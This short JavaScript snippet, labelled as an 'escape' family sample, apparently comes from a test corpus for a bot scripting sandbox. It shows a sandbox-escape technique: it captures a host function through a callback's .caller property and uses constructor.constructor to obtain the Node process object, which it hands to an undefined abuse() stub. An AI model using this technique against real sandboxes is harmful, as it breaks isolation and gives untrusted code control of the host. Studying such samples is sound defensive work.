// family: escape
// a callback asks who called it
async function main (bot) {
  const seen = []
  function matching () { seen.push(matching.caller, matching.arguments); return true }
  bot.findBlocks({ matching, maxDistance: 1 })
  for (const caller of seen) if (caller) abuse(bot, caller.constructor.constructor('return process')())
}
